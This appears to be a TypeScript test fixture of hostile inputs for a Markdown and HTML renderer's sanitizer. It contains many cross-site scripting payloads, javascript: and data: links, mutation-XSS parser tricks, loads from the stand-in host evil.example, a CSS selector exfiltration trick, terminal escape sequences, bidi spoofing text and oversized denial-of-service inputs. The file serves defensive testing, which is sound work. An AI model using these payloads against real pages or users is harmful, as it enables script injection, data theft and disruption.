// What a model, a tool, a web page or a file might say to get something run, fetched, hidden or stuck in the page that
// shows it. Each tries to set `window.owned`, to open a dialog or to reach evil.example; none may.
const EVIL = "http://evil.example";
const RUN = "window.owned=1;alert(1)";

export const HOSTILE: Record<string, string> = {
  // Script, plainly and by handlers.
  "a script": `<script>${RUN}</script>`,
  "a script from elsewhere": `<script src="${EVIL}/x.js"></script><script type=module src=//evil.example/y.js></script>`,
  "a script that is not closed": `<script>${RUN}`,
  "a script split over Markdown": `<scr\n\nipt>${RUN}</script>\n\n<<script>${RUN}//<</script>`,
  "handlers on images": `<img src=x onerror="${RUN}"> <img src="${EVIL}/a.png" onload=${RUN}> <IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  "handlers on anything": `<b onmouseover=${RUN}>b</b> <details open ontoggle=${RUN}>x</details> <body onload=${RUN}> <input autofocus onfocus=${RUN}> <marquee onstart=${RUN}>m</marquee> <video src=x onerror=${RUN}> <div onpointerenter=${RUN} style="position:fixed;inset:0">`,
  "handlers with odd spacing": `<img/src=x/onerror=${RUN}>\n<img\tsrc=x\fonerror=${RUN}>\n<svg/onload=${RUN}>\n<img src=x on\nerror=${RUN}>`,
  "a script in a comment": `<!--><script>${RUN}</script>--> <!-- --!><img src=x onerror=${RUN}> <![CDATA[<img src=x onerror=${RUN}>]]> <?xml ?><script>${RUN}</script>`,
  "a template and slots": `<template><script>${RUN}</script></template><slot onslotchange=${RUN}></slot><x-y onclick=${RUN}>`,

  // Links that run.
  "javascript links": `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](java\tscript:${RUN}) [d](javascript&colon;${RUN}) [e](&#106;avascript:${RUN}) [f](\u0001javascript:${RUN}) [g](<javascript:${RUN}>) [h]( javascript:${RUN})`,
  "javascript by reference": `[a][r] [r]\n\n[r]: javascript:${RUN}\n\n<javascript:${RUN}> <a href="javascript:${RUN}">z</a> <a href="&#x6A;avascript:${RUN}">y</a>`,
  "data links": `[a](data:text/html,<script>${RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [c](vbscript:${RUN}) [d](file:///etc/passwd) [e](blob:http://127.0.0.1/x) [f](view-source:${EVIL})`,
  "links out of attributes": `[a](<${EVIL}/" onclick="${RUN}>) [b](${EVIL} "title\\" onmouseover=\\"${RUN}") [c](${EVIL}/'onclick='${RUN})`,
  "links that would log in or act":
    "[a](/login#aaaaaaaaaaaaaaaa) [b](/api/logout) [c](/api/sessions/x?force=true) [d](//evil.example/sessions/a) [e](/\\evil.example) [f](\\\\evil.example\\a)",
  "a link around everything": `[${"x".repeat(200)}\n](${EVIL})[![i](${EVIL}/a.png)](javascript:${RUN})`,

  // Images and whatever else loads.
  "Markdown images": `![a](${EVIL}/1.png) ![b](//evil.example/2.png) ![c][i] ![](<${EVIL}/3.png>) ![d](${EVIL}/4.png "t")\n\n[i]: ${EVIL}/5.png`,
  "data images": `![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>) ![b](data:image/png;base64,AAAA) ![c](data:text/html,<script>${RUN}</script>)`,
  "images out of attributes": `![" onerror="${RUN}](x) ![a](<x" onerror="${RUN}>) ![a](x "\\" onerror=\\"${RUN}")`,
  "HTML images": `<img src="${EVIL}/1.png"><img srcset="${EVIL}/2.png 2x"><picture><source srcset=${EVIL}/3.png><img></picture><input type=image src=${EVIL}/4.png><image href=${EVIL}/5.png>`,
  "media and objects": `<video poster=${EVIL}/p.png src=${EVIL}/v.mp4 autoplay></video><audio src=${EVIL}/a.mp3 autoplay></audio><object data=${EVIL}/o></object><embed src=${EVIL}/e><applet code=x></applet><track src=${EVIL}/t>`,
  frames: `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe><iframe src=${EVIL}></iframe><frameset><frame src=${EVIL}></frameset><portal src=${EVIL}></portal>`,
  "links that load": `<link rel=stylesheet href=${EVIL}/s.css><link rel=preload as=image href=${EVIL}/p.png><link rel=dns-prefetch href=//evil.example><link rel=prerender href=${EVIL}><link rel=icon href=${EVIL}/i.png><link rel=modulepreload href=${EVIL}/m.js>`,
  "meta and base": `<meta http-equiv=refresh content="0;url=${EVIL}"><base href=${EVIL}/><meta http-equiv="Content-Security-Policy" content="script-src *"><title>owned</title>`,
  "pings and downloads": `<a href=/ ping=${EVIL}>p</a><a href=${EVIL} download>d</a><form action=${EVIL} method=post><button>go</button></form>`,

  // Styles that fetch or cover.
  "style elements": `<style>@import url(${EVIL}/i.css);body{background:url(${EVIL}/b.png)}*{display:none!important}</style>`,
  "style attributes": `<p style="background:url(${EVIL}/b.png)">x</p><div style="position:fixed;inset:0;z-index:9999">cover</div><b style="width:expression(${RUN})">y</b><i style="-moz-binding:url(${EVIL})">`,
  "presentational attributes": `<table background="${EVIL}/t.png"><tr><td background=${EVIL}/d.png>x</table><body background=${EVIL}/y.png><font face="x" color=red size=7>big`,
  "exfiltration by selectors": `<style>input[value^="a"]{background:url(${EVIL}/a)}@font-face{font-family:x;src:url(${EVIL}/f)}p{font-family:x}</style>`,

  // Other markup, and what parsers disagree about.
  svg: `<svg onload=${RUN}><script>${RUN}</script><use href="${EVIL}/x.svg#a"/><image href="${EVIL}/i.png"/><animate attributeName=href values="javascript:${RUN}"/><foreignObject><img src=x onerror=${RUN}></foreignObject><a xlink:href="javascript:${RUN}"><text>t</text></a><set attributeName=onmouseover to=${RUN}/></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></table></mtext><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  "mutation: math and style": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  "mutation: svg and title": `<svg></p><title><a id="</title><img src=1 onerror=${RUN}>"></svg>`,
  "mutation: noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  "mutation: textarea and xmp": `<textarea><p title="</textarea><img src=x onerror=${RUN}>"><xmp><p title="</xmp><img src=x onerror=${RUN}>"><noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  "mutation: deep svg desc": `<svg><desc><template><p title="</template><img src=x onerror=${RUN}>"></desc></svg><math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  "mutation: table fostering": `<table><svg><mtext><style><a title="</style><img src=1 onerror=${RUN}>">`,
  "mutation: select": `<select><template><img src=x onerror=${RUN}></template><option><style></option></select><img src=x onerror=${RUN}></style>`,
  "raw text in bare tags": `<code><img src=x onerror=${RUN} </code> <kbd><img src=x onerror=${RUN}></kbd> <sub>&lt;img src=x onerror=${RUN}&gt;</sub> <pre><img src=x onerror=${RUN}></pre>`,
  "bare tags left open": "<b><i><u><s><sup><sub><mark><small><kbd><code>everything after this",
  "broken attributes": `<a href="x" title='"><img src=x onerror=${RUN}>'>q</a> <b title="\`><img src=x onerror=${RUN}>\`">r</b> <a href=x"onclick=${RUN}>`,
  entities: `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &amp;lt;script&amp;gt; &#0; &#x110000; &#xD800; &NotAnEntity;`,

  // Names that stand in the way of the page's own.
  "clobbered names": `<a id=document name=getElementById>x</a><form id=body name=forms><input name=attributes><input name=nodeName></form><img name=cookie><a id=main></a><div id=root></div><object id=location></object><a id=owned href=x></a>`,
  "classes of the page": `<div class="unseen skip panes">x</div> <button class="go">Allow once</button> <dialog open>May I?</dialog> <p popover>pop</p>`,

  // Markdown's own corners.
  "code fences": `\`\`\`html" onclick="${RUN}\n<img src=x onerror=${RUN}>\n\`\`\`\n\n~~~<script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n~~~\n\n    <script>${RUN}</script>`,
  "a fence that never ends": `\`\`\`js\n</script><script>${RUN}</script>\n${"x\n".repeat(50)}`,
  "language names":
    "```constructor\nx\n```\n\n```__proto__\nx\n```\n\n```../../etc/passwd\nx\n```\n\n```toString\nx\n```",
  tables: `| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n|:--|--:|\n| <script>${RUN}</script> | ![x](${EVIL}/t.png) |\n| a | b | c | d |`,
  "task lists": `- [x] <input type=text onfocus=${RUN} autofocus>\n- [ ] <script>${RUN}</script>\n- [x](javascript:${RUN})`,
  headings: `# <img src=x onerror=${RUN}>\n\n<h1 id=main>taken</h1>\n\nx\n===\n\n###### ![h](${EVIL}/h.png)`,
  autolinks: `${EVIL}/auto <${EVIL}/angle> www.evil.example mailto:a@evil.example <javascript:${RUN}> a@evil.example`,

  // Characters.
  "turned writing": "safe \u202e txt.exe \u2066 hidden \u2069 \u200f\u202d\u202a end \u{e0041}\u{e0042}",
  controls: `nul \0 bell \u0007 escape \u001b[31mred\u001b[0m back\b\b del \u007f c1 \u0085\u009b31m sep \u2028\u2029 bom \ufeff`,
  "terminal escapes":
    "\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\\u001b[2J\u001b[1;1H\u001bPq#0\u001b\\\u001b[?1049h\u001b]52;c;b3duZWQ=\u0007\r\rover\rwritten\u001b[8mhidden\u001b[0m",
  "combining marks": `Z${"\u0334\u0335\u0336".repeat(300)}algo ${"\u0e49".repeat(500)}`,
  "half characters": "\ud800 lone \udc00 \uffff \ufffe",

  // Size and shape.
  "nested quotes": "> ".repeat(5000) + "deep",
  "nested lists": Array.from({ length: 400 }, (_, n) => `${"  ".repeat(n)}- ${n}`).join("\n"),
  "nested links and marks": "[".repeat(3000) + "*_".repeat(3000) + "](x)".repeat(3000),
  "marks by the thousand": "a_".repeat(20_000),
  "a wide table": `${"|a".repeat(500)}\n${"|-".repeat(500)}\n${"|b\n".repeat(2000)}`,
  "a long table": `|a|b|\n|-|-|\n${"|1|2|\n".repeat(4000)}`,
  "nested tags": "<b>".repeat(5000) + "deep" + "<div>".repeat(3000),
  "a long line": "wide".repeat(15_000),
  "many blocks": "# x\n\n".repeat(9000),
  "many lines": "y\n".repeat(30_000),
};
